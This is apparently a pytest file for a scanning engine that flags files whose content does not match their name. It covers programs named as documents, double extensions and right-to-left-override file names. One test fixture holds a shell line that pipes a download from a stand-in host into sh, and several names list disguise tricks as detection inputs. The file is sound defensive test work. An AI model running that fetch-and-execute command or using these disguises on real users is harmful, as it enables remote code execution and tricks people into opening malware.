"""The file-type engine: libmagic's type against the name, on samples built at test time."""

from __future__ import annotations

import struct
import sys
import threading
import zlib
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from splitstore._errors import ConfigError
from splitstore.scanning import CATEGORIES, Finding
from splitstore.scanning._filetype import FileTypeEngine
from tests.scan_samples import elf_binary, macro_docx, zip_of


def png() -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(b"\0\0"))
        + chunk(b"IEND", b"")
    )


def jpeg() -> bytes:
    return (
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
        + bytes(200)
        + b"\xff\xd9"
    )


def pdf() -> bytes:
    return b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"


def pe() -> bytes:
    """An MZ header pointing at a PE signature: a Windows program's first bytes."""
    return (
        b"MZ"
        + bytes(58)
        + struct.pack("<I", 64)
        + b"PE\0\0"
        + struct.pack("<HH", 0x14C, 1)
        + bytes(400)
    )


def mp4() -> bytes:
    return struct.pack(">I", 24) + b"ftypmp42" + bytes(4) + b"mp42isom" + bytes(64)


HTML = (
    b"<!DOCTYPE html>\n<html><head><title>Sign in</title></head><body><form></form></body></html>\n"
)
SHELL = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
TEXT = b"Dear colleague,\nplease find the figures below.\n" * 20


@pytest.fixture(scope="module")
def eng() -> FileTypeEngine:
    return FileTypeEngine()


def scan(eng: FileTypeEngine, name: str, data: bytes, block: int = 1 << 20) -> list[Finding]:
    session = eng.session(name, len(data))
    view = memoryview(data)
    for i in range(0, len(data), block):
        session.feed(view[i : i + block])
    return session.finish(None)


def rules(found: list[Finding]) -> set[tuple[str, str]]:
    return {(f.category, f.rule) for f in found}


@pytest.mark.parametrize(
    ("name", "data"),
    [("invoice.pdf", elf_binary()), ("photo.jpg", pe()), ("notes.txt", pe()),
     ("song.mp3", elf_binary()), ("Report.DOCX", pe()), ("dir/clip.mp4", elf_binary())],
)  # fmt: skip
def test_program_named_as_a_document_is_disguised(
    eng: FileTypeEngine, name: str, data: bytes
) -> None:
    found = scan(eng, name, data)
    assert rules(found) == {("disguised-executable", "program-as-document")}
    assert found[0].engine == "filetype"


@pytest.mark.parametrize(
    "name", ["tool", "tool.exe", "libx.so", "setup.x86_64.exe", "a.bin", "app.dll"]
)
def test_program_named_as_a_program_is_not_reported(eng: FileTypeEngine, name: str) -> None:
    assert scan(eng, name, pe() if "." in name else elf_binary()) == []


@pytest.mark.parametrize(
    ("name", "data"),
    [("invoice.pdf", HTML), ("photo.jpg", HTML), ("scan.png", SHELL), ("letter.docx", HTML),
     ("bundle.zip", SHELL), ("picture.gif", b"#!/usr/bin/env python3\nimport os\n")],
)  # fmt: skip
def test_active_content_under_a_strong_type_is_a_mismatch(
    eng: FileTypeEngine, name: str, data: bytes
) -> None:
    found = scan(eng, name, data)
    assert rules(found) == {("type-mismatch", "active-content")}
    assert name.rsplit(".", 1)[1] in found[0].detail


@pytest.mark.parametrize(
    ("name", "data"),
    [("photo.jpg", png()), ("photo.png", jpeg()), ("photo.png", png()), ("doc.pdf", pdf()),
     ("doc.zip", pdf()), ("doc.pdf", TEXT), ("page.html", HTML), ("run.sh", SHELL),
     ("notes.txt", HTML), ("x.docx", macro_docx()), ("x.zip", zip_of({"a": b"1"})),
     ("data", SHELL), ("empty.pdf", b""), ("clip.mp4", mp4()), ("a.tar.gz", zlib.compress(b"x"))],
)  # fmt: skip
def test_ordinary_files_are_not_reported(eng: FileTypeEngine, name: str, data: bytes) -> None:
    assert scan(eng, name, data) == []


@pytest.mark.parametrize(
    "name", ["invoice.pdf.exe", "photo.JPG.scr", "statement.pdf   .exe", "a.txt.lnk"]
)
def test_double_extension_is_disguised_whatever_the_content(eng: FileTypeEngine, name: str) -> None:
    assert rules(scan(eng, name, TEXT)) == {("disguised-executable", "double-extension")}


def test_right_to_left_override_in_a_programs_name_is_disguised(eng: FileTypeEngine) -> None:
    name = "invoice\u202efdp.exe"  # shows as "invoiceexe.pdf"
    found = scan(eng, name, TEXT)
    assert rules(found) == {("disguised-executable", "bidi-name")}
    assert "U+202E" in found[0].detail
    assert rules(scan(eng, "tool\u202e", elf_binary())) == {("disguised-executable", "bidi-name")}
    assert scan(eng, "notes\u202etxt.md", TEXT) == []  # odd, but not a program
    assert scan(eng, "\u200fשלום.exe", pe()) == []  # a plain direction mark reorders nothing


def test_a_text_file_libmagic_takes_for_a_dos_program_is_not_disguised(eng: FileTypeEngine) -> None:
    # The start of a Korean test file in Python's own test suite: libmagic guesses a DOS
    # .COM program from its first bytes (COM files have no header to check).
    data = b"\x8cc\xb9\xe6\xb0\xa2\xc7\xcf " + "텍스트 파일입니다.\n".encode("cp949") * 10
    assert eng.identify(data)[0] == "application/x-dosexec"
    assert scan(eng, "cp949.txt", data) == []


def test_blocked_types(eng: FileTypeEngine) -> None:
    blocking = FileTypeEngine(["application/x-executable", "image/*", "video/mp?"])
    assert rules(scan(blocking, "tool", elf_binary())) == {
        ("blocked-type", "application/x-executable")
    }
    assert rules(scan(blocking, "a.png", png())) == {("blocked-type", "image/*")}
    assert rules(scan(blocking, "a.mp4", mp4())) == {("blocked-type", "video/mp?")}
    assert scan(blocking, "a.pdf", pdf()) == []
    both = scan(blocking, "x.pdf", elf_binary())
    assert rules(both) == {
        ("blocked-type", "application/x-executable"),
        ("disguised-executable", "program-as-document"),
    }


@pytest.mark.parametrize("pattern", ["", "video", "Video/*", "a/b/c", "video/ mp4", "*", 5])
def test_bad_blocked_type_patterns_are_config_errors(pattern: object) -> None:
    with pytest.raises(ConfigError, match="blocked_types"):
        FileTypeEngine([pattern])  # type: ignore[list-item]


def test_only_the_head_is_kept(eng: FileTypeEngine) -> None:
    session = eng.session("big.pdf", None)
    session.feed(memoryview(pdf()))
    for _ in range(40):
        session.feed(memoryview(bytes(1 << 20)))
    assert len(session._head) == 64 * 1024
    assert session.finish(None) == []


@settings(max_examples=30, deadline=None)
@given(block=st.integers(1, 300))
def test_results_do_not_depend_on_block_sizes(block: int) -> None:
    eng = _shared()
    assert rules(scan(eng, "invoice.pdf", elf_binary(), block)) == {
        ("disguised-executable", "program-as-document")
    }
    assert rules(scan(eng, "invoice.pdf", HTML, block)) == {("type-mismatch", "active-content")}


@settings(max_examples=100, deadline=None)
@given(
    data=st.binary(max_size=2000),
    name=st.sampled_from(["a.pdf", "a.jpg", "a.txt", "a", "a.exe", "a.docx", ".pdf", "a.zip."]),
)
def test_any_content_gives_valid_findings(data: bytes, name: str) -> None:
    found = scan(_shared(), name, data)
    assert all(f.category in CATEGORIES and f.engine == "filetype" for f in found)


_ENGINES: list[FileTypeEngine] = []


def _shared() -> FileTypeEngine:
    if not _ENGINES:
        _ENGINES.append(FileTypeEngine())
    return _ENGINES[0]


def test_libmagic_errors_are_not_scanned(
    eng: FileTypeEngine, monkeypatch: pytest.MonkeyPatch
) -> None:
    broken = FileTypeEngine()

    def fail(head: bytes) -> str:
        raise RuntimeError("bad magic")

    monkeypatch.setattr(broken, "mime_type", fail)
    assert rules(scan(broken, "a.pdf", pdf())) == {("not-scanned", "libmagic-error")}


def test_missing_libmagic_is_a_config_error(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "magic", None)  # what a failed import looks like
    with pytest.raises(
        ConfigError, match=r"libmagic is not installed \(Debian: apt-get install libmagic1\)"
    ):
        FileTypeEngine()


def test_describe(eng: FileTypeEngine) -> None:
    described = eng.describe()
    major, minor = described["version"].split(".")
    assert int(major) >= 5
    assert minor.isdigit()
    if "database_sha256" in described:
        assert len(described["database_sha256"]) == 64
        assert all(Path(p).is_file() for p in described["database"].split(":"))


def test_one_engine_is_safe_from_many_threads(eng: FileTypeEngine) -> None:
    samples = [("a.pdf", elf_binary()), ("b.png", png()), ("c.jpg", HTML), ("d.txt", TEXT)]
    expected = [rules(scan(eng, n, d)) for n, d in samples]
    failures: list[str] = []

    def work() -> None:
        for _ in range(50):
            for (n, d), want in zip(samples, expected, strict=True):
                if rules(scan(eng, n, d)) != want:
                    failures.append(n)

    threads = [threading.Thread(target=work) for _ in range(6)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert failures == []
